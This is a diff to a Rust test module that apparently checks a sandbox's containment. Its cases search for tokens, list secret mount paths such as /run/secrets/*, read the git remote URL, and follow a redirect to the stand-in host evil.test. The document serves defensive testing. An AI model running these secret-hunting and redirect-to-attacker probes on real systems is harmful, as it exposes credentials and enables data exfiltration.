@@ -29,12 +29,12 @@ pub(super) fn cases() -> Vec<Case> {
 }
 
 fn find(name: &str, patterns: &[&str]) -> Step {
-    Step::new(name, json!({"act": "find", "patterns": patterns}), &["none"], &["/*", ".*"]).everywhere()
+    Step::new(name, json!({"act": "find", "patterns": patterns}), &["none"], &["/*"]).everywhere()
 }
 
 fn text_of(name: &str, paths: &[&str]) -> Step {
     let act = json!({"act": "text_of", "paths": paths, "pattern": PATTERN});
-    Step::new(name, act, &["none", "nothing could be read"], &["/*", ".*"]).everywhere()
+    Step::new(name, act, &["none"], &["/*"]).everywhere()
 }
 
 fn processes() -> Case {
@@ -128,10 +128,10 @@ fn files() -> Case {
     let remote = shell(
         "the remote's address",
         "git config --get remote.origin.url",
-        &["0 https://git.test/acme/app.git"],
+        &["0 https://git.test/acme/{mark}.git"],
         &["0 https://user*"],
     );
-    Case::new("C-05", Weak::Broken).controls(&["control files"]).step(text_of("where tokens lie", &paths)).step(remote)
+    Case::new("C-05", Weak::Broken).controls(&["control text"]).step(text_of("where tokens lie", &paths)).step(remote)
 }
 
 fn history() -> Case {
@@ -183,7 +183,7 @@ fn mounted() -> Case {
             "places where secrets are put",
             &["/run/secrets/*", "/var/run/secrets/*", "/host/*", "/mnt/*", "/secrets/*"],
         ))
-        .controls(&["control files"])
+        .controls(&["control files", "control mounts"])
 }
 
 fn inherited() -> Case {
@@ -226,7 +226,7 @@ fn refreshed() -> Case {
 }
 
 fn redirected() -> Case {
-    let body = ask("Redirect me to https://evil.test/landed");
+    let body = ask("Redirect me to https://evil.test/landed?{mark}");
     let followed = [
         "-L",
         "--cacert",
@@ -250,10 +250,10 @@ fn redirected() -> Case {
         &["200*"],
     );
     let mut by_client =
-        curl("a trusted site redirects", &followed, &["56 *", "0 403"], &["0 200"]).traced("evil", "/landed");
+        curl("a trusted site redirects", &followed, &["56 *", "0 403"], &["0 200"]).traced("evil", "/landed?{mark}");
     by_client.is_everywhere = false;
     Case::new("C-14", Weak::Broken)
         .controls(&["control counting tokens", "control curl by the proxy"])
-        .step(step.traced("evil", "/landed"))
+        .step(step.traced("evil", "/landed?{mark}"))
         .step(by_client)
 }
